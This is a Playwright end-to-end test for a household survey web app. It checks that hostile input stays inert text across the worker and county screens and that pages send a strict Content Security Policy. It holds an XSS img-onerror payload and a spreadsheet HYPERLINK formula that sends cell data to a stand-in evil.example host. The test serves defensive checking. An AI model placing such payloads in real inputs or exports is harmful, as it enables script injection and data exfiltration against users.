import { expect, type Page } from '@playwright/test'
import { test } from '../support/field-day.ts'
import { hostileTexts } from '../support/hostile-texts.ts'
import { metHousehold } from '../support/visits.ts'

const image = '<img src=x onerror="document.title=\'owned\'">'
const bold = '<b>粗</b>&lt;'
const desktop = { width: 1440, height: 900 }

/** What a page must never do over a text: run a script, ask for one, or make an element of it. */
async function watch(page: Page) {
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/.test(message.text())) seen.push(message.text())
  })
  await page.context().addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => console.error(`Refused to load: Content Security Policy ${violatedDirective} ${blockedURI}`))
  })
  return {
    async unharmed() {
      expect(seen).toEqual([])
      expect(await page.title()).not.toContain('owned')
      expect(await page.locator('img[src="x"], b:text-is("粗"), script:not([src])').count()).toBe(0)
    },
  }
}

test('fault 39: a hostile text in every field is shown as text on every screen that shows it', async ({ day }) => {
  const worker = await day.client('worker')
  const door = day.place('12组 38号')
  const { id } = day.seen.account
  const note = `${image} ${Object.values(hostileTexts).join(' ')}`
  const hostile = { note, zone: image, reason: image, followUp: { day: 20261129, why: `${image} 回访` } }
  const shown = metHousehold(door, id, 9001, hostile)
  const { answers } = await worker.push([shown])
  expect(answers).toMatchObject([{ answer: 'stored' }])
  const county = await day.client('county')
  const put = (method: string, path: string, body: object) =>
    county.fetch(path, { method, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })
  const area = '450126000000'
  const campaign = { name: image.slice(0, 40), period: { from: 20261101, to: 20261231 }, area, kind: 'household', targetShare: 0.9, shares: [], counts: [] }
  expect((await put('PUT', '/api/campaigns/hostile', campaign)).status).toBe(200)
  expect((await put('POST', '/api/accounts', { name: bold, role: 'worker', areas: [door.area] })).status).toBe(200)
  const rows = [{ row: 1, id: door.id, kind: 'household', name: bold, area: door.area, hamlet: null, point: null, size: null }]
  const imported = await put('POST', '/api/roster/imports/0199aaaa-0000-7000-8000-000000000001', { list: 'places', file: image, rows })
  expect(await imported.json()).toMatchObject({ effects: ['changed'] })

  const phone = await day.phone()
  const answersOfPages: { url: string; policy: string | undefined }[] = []
  phone.page.on('response', (response) => {
    if (!response.fromServiceWorker()) answersOfPages.push({ url: response.url(), policy: response.headers()['content-security-policy'] })
  })
  const eyes = await watch(phone.page)
  const page = await phone.signInDemo('worker')
  await page.goto(`/records/${shown.visit}`)
  await expect(page.getByText(image).first()).toBeVisible()
  await expect(page.getByText('=HYPERLINK("http://evil.example/?"&A1,"看")').first()).toBeVisible()
  await eyes.unharmed()
  for (const path of ['/', `/map?place=${door.id}`, `/log?place=${door.id}`]) {
    await page.goto(path)
    await expect(page.getByText(path === '/' ? campaign.name : bold).first()).toBeVisible()
    await eyes.unharmed()
  }

  const desk = await day.phone({ screen: desktop })
  const deskEyes = await watch(desk.page)
  const office = await desk.signInDemo('county')
  for (const [path, text] of [
    ['/people', bold],
    ['/campaigns', campaign.name],
    ['/roster', image],
    [`/records/${shown.visit}`, image],
    [`/map?place=${door.id}`, bold],
  ] as const) {
    await office.goto(path)
    await expect(office.getByText(text).first()).toBeVisible()
    await deskEyes.unharmed()
  }
  for (const path of ['/coverage', '/reports', '/spot-check', '/blind-spots']) {
    await office.goto(path)
    await office.getByRole('heading', { level: 1 }).first().waitFor()
    await deskEyes.unharmed()
  }
  // And the browser runs no script of an address that is not the build's, whoever asks it to.
  const ran = await office.evaluate(() => {
    try {
      new Worker('/api/health').terminate()
      return 'ran'
    } catch (error) {
      return (error as Error).name
    }
  })
  expect(ran).toBe('TypeError')
  const ours = answersOfPages.filter(({ url }) => url.startsWith(day.link.url))
  expect(ours.length).toBeGreaterThan(5)
  for (const { url, policy } of ours) expect([url, policy]).toEqual([url, expect.stringContaining(`default-src 'self'`)])
})
